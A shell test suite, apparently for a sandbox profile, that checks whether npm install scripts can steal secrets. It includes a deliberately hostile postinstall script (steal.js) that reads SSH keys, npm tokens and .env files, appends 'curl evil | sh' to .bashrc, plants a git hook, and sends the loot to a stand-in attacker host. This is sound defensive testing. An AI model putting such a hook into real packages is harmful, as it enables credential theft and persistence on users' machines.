# npm-install: packages from a registry, their install scripts run; a hostile one finds no key, no token and no one to tell.
#
# The registry is on another machine of the test's network (lib/net), and so is the one that the hostile script calls. The
# host has a /dev/net/tun that everybody may open, as on any distribution, in a mount namespace that $HOLDER keeps.

# bats file_tags=large
# shellcheck disable=SC2016,SC2030,SC2031,SC2086,SC2317 # JavaScript's; what bats' run sets; one word; called by name
bats_require_minimum_version 1.5.0
load ../lib/common
load ../lib/profiles
load ../lib/net

REGISTRY=198.51.100.7
EVIL=192.0.2.3

setup_file() {
	packages passt iproute2 nginx-light curl python3
	command -v npm >/dev/null || packages npm
}

setup() {
	PATH=/usr/bin:$PATH
	as_root_only
	residue_before
	net_up
	mknod -m 0666 "$TMP/tun" c 10 200
	nsenter --net="/run/netns/$NET-host" unshare -m --propagation private sh -c "
		mkdir -p /dev/net; [ -e /dev/net/tun ] || mknod /dev/net/tun c 10 200
		mount --bind '$TMP/tun' /dev/net/tun && touch '$TMP/holds' && exec sleep 1000" 3>&- &
	HOLDER=$!
	wait_until 5 test -e "$TMP/holds"
	packages_of_strangers "$TMP/packages"
	on outside "$CHECKOUT/tests/lib/registry" "$TMP/packages" $REGISTRY 4873 >"$TMP/registry.log" 2>&1 3>&- &
	wait_until 5 on host curl -sf -o /dev/null http://$REGISTRY:4873/pad
	serve client 80 'thank you'
	serve host 8080 'a service of the host'
	net_before
}

teardown() {
	serve_stop
	[ -z "${HOLDER:-}" ] || kill "$HOLDER"
	net_down
	residue_after
}

# On the test's host, with a home in which there is something to steal.
as_launcher() {
	local become=()

	if [ "$1" = sandbox ]; then
		shift
		set -- "$(_user_sandbox)" "$@"
	fi
	[ "$LAUNCHER" = root ] || become=(setpriv "--reuid=$TEST_UID" "--regid=$TEST_UID" --clear-groups)
	nsenter --net="/run/netns/$NET-host" --mount="/proc/$HOLDER/ns/mnt" --wdns="$PWD" -- \
		env -u XDG_RUNTIME_DIR -u XDG_CONFIG_HOME HOME="$TMP/theirs-$LAUNCHER" TMPDIR="$USER_TMP" \
		NPM_TOKEN=npm_hunter2 npm_config_update_notifier=false "${become[@]}" "$@"
}

registry_launch() {
	launch -D registry=$REGISTRY -D port=4873 -D url=http://$REGISTRY:4873/ "$@"
}

# package NAME MANIFEST: below $1 of packages_of_strangers; other files come from its caller.
package() {
	mkdir -p "$packages/$1"
	echo "{ \"name\": \"$1\", \"version\": \"1.0.0\", \"main\": \"index.js\", $2 }" >"$packages/$1/package.json"
}

# pad depends on repeat, which makes its code when it is installed. colours steals.
packages_of_strangers() {
	local packages=$1

	package pad '"dependencies": { "repeat": "^1.0.0" }, "bin": { "pad": "cli.js" }'
	echo 'module.exports = (text, width) => require("repeat")(" ", width - text.length) + text;' >"$packages/pad/index.js"
	printf '%s\n' '#!/usr/bin/env node' 'console.log(require("./index.js")(process.argv[2], 8));' >"$packages/pad/cli.js"
	package repeat '"scripts": { "install": "node make.js && cp made.js index.js" }'
	echo 'require("fs").writeFileSync("made.js", "module.exports = (text, times) => text.repeat(times);");' >"$packages/repeat/make.js"
	package colours '"scripts": { "postinstall": "node steal.js" }'
	echo 'exports.red = text => `<red>${text}</red>`;' >"$packages/colours/index.js"
	cat >"$packages/colours/steal.js" <<END
const fs = require("fs"), http = require("http"), os = require("os"), { execSync } = require("child_process");
const loot = {}, home = os.homedir(), project = process.env.INIT_CWD;
const attempt = (name, take) => { try { loot[name] = String(take()).trim(); } catch (error) { loot[name] = "no: " + error.message.split("\n")[0]; } };
const call = (name, url) => new Promise(done => http.get(url, { timeout: 2000 }, answer => {
	answer.on("data", part => loot[name] = String(part).trim()).on("end", done);
}).on("error", error => { loot[name] = "no: " + error.code; done(); }).on("timeout", function () { this.destroy(new Error("timeout")); }));

attempt("key", () => fs.readFileSync(home + "/.ssh/id_ed25519"));
attempt("keyByPath", () => fs.readFileSync("$TMP/theirs-LAUNCHER/.ssh/id_ed25519".replace("LAUNCHER", fs.readFileSync(project + "/launcher", "utf8").trim())));
attempt("token", () => fs.readFileSync(home + "/.npmrc"));
attempt("projectToken", () => fs.readFileSync(project + "/.npmrc").toString() || "no: empty");
attempt("secrets", () => fs.readFileSync(project + "/.env").toString() || "no: empty");
attempt("environment", () => process.env.NPM_TOKEN || "no: not set");
attempt("bashrc", () => { fs.appendFileSync(home + "/.bashrc", "curl evil | sh\n"); return "written"; });
attempt("hook", () => { fs.writeFileSync(project + "/.git/hooks/post-checkout", "#!/bin/sh\nid\n"); return "written"; });
attempt("namespace", () => execSync("unshare -Ur id -u", { stdio: "pipe" }));
Promise.all([
	call("evil", "http://$EVIL/?" + encodeURIComponent(JSON.stringify(loot))),
	call("host", "http://192.0.2.1:8080/"),
	call("otherPort", "http://$REGISTRY:80/"),
]).then(() => fs.writeFileSync(project + "/loot.json", JSON.stringify(loot, null, 1)));
END
}

project() {
	rm -rf node_modules package-lock.json loot.json
	echo "{ \"name\": \"project\", \"version\": \"1.0.0\", \"dependencies\": { $1 } }" >package.json
	chown -R --reference=. .
}

installs() {
	project '"pad": "^1.0.0"'
	run registry_launch
	assert_status 0
	assert_output 'added 2 packages'
	[ "$(node -e 'console.log(require("pad")("x", 4))')" = "   x" ]
	[ "$(stat -c %u node_modules/repeat/index.js)" = "$(stat -c %u .)" ]
	grep -q '"integrity": "sha512-' package-lock.json
	# From the lock file, then another package by name, then a program of one of them.
	run registry_launch -- npm ci
	assert_status 0
	assert_output 'added 2 packages'
	run registry_launch -- sh -c 'npm install --ignore-scripts colours && npx pad here'
	assert_status 0
	assert_line '    here'
	grep -q '"colours": *"^1.0.0"' package.json
	# A tarball that is not the one of the lock file.
	echo '// changed since' >>"$TMP/packages/repeat/make.js"
	run registry_launch -- npm ci --fetch-retries=0
	[ "$status" -ne 0 ]
	assert_output EINTEGRITY
}

@test "npm installs packages of a registry, their scripts run, and what they made works" {
	each_launcher installs
	net_after
}

# loot NAME: what the script got.
loot() {
	node -p 'JSON.parse(require("fs").readFileSync("loot.json"))[process.argv[1]]' "$1"
}

there_is_something_to_steal() {
	local theirs=$TMP/theirs-$LAUNCHER

	mkdir -p "$theirs/.ssh" .git/hooks
	echo 'PRIVATE KEY' >"$theirs/.ssh/id_ed25519"
	echo '//registry.npmjs.org/:_authToken=npm_hunter2' | tee "$theirs/.npmrc" >.npmrc
	echo 'SECRET=hunter2' >.env
	echo "$LAUNCHER" >launcher
	rm -f "$theirs/.bashrc"
	chown -R --reference=. "$theirs" .
}

is_robbed() {
	local name

	run as_launcher npm install --no-fund --registry http://$REGISTRY:4873/
	assert_status 0
	for name in key keyByPath token projectToken secrets environment bashrc hook namespace evil host otherPort; do
		echo "outside, $name: $(loot $name)"
		[[ $(loot $name) != no:* ]] || return 1
	done
	grep -q 'PRIVATE' "$TMP/serve-client-80/access.log"
	grep -q 'curl evil' "$TMP/theirs-$LAUNCHER/.bashrc"
}

is_not() {
	local name

	run registry_launch
	assert_status 0
	for name in key keyByPath token projectToken secrets environment hook namespace evil host otherPort; do
		echo "inside, $name: $(loot $name)"
		[[ $(loot $name) = no:* ]] || return 1
	done
	# It wrote one, in a home that is gone.
	[ "$(loot bashrc)" = written ]
	[ ! -e "$TMP/theirs-$LAUNCHER/.bashrc" ]
	[ ! -s "$TMP/serve-client-80/access.log" ]
	[ "$(node -p 'require("colours").red("x")')" = "<red>x</red>" ]
}

refuses_stealing() {
	there_is_something_to_steal
	project '"colours": "1.0.0"'
	is_robbed
	: >"$TMP/serve-client-80/access.log"
	rm -rf "$TMP/theirs-$LAUNCHER/.bashrc" .git/hooks/post-checkout
	project '"colours": "1.0.0"'
	is_not
}

@test "a hostile install script gets no key or token, writes no start file or hook, reaches nobody but the registry" {
	serve outside 80 'another service of that host'
	each_launcher refuses_stealing
	net_after
}

@test "as root with an interface of its own: the same" {
	LAUNCHER=root
	WORK=$TMP/work-root
	mkdir -p "$WORK" "$TMP/theirs-root"
	cd "$WORK"
	serve outside 80 'another service of that host'
	net_forward
	net_before
	there_is_something_to_steal
	project '"colours": "1.0.0", "pad": "1.0.0"'
	is_robbed
	: >"$TMP/serve-client-80/access.log"
	rm -rf "$TMP/theirs-root/.bashrc" .git/hooks/post-checkout
	project '"colours": "1.0.0", "pad": "1.0.0"'
	registry_launch() {
		launch -D registry=$REGISTRY -D port=4873 -D url=http://$REGISTRY:4873/ -s network.mode=veth -s network.nat=true \
			-s network.bridge.name=sbn0 -s network.bridge.address=10.214.0.1/24 "$@"
	}
	is_not
	[ "$(node -p 'require("pad")("x", 4)')" = "   x" ]
	net_after
}

takes() {
	refuses_processes
	refuses_setuid
	refuses_memory 512M -D registry=$REGISTRY -s cgroup.memory.max=256M
}

@test "nor does it see processes, become root or take more than its memory" {
	launch() {
		as_launcher sandbox -p "$CHECKOUT/profiles/npm-install.conf" -D registry=$REGISTRY "$@"
	}
	each_launcher takes
}
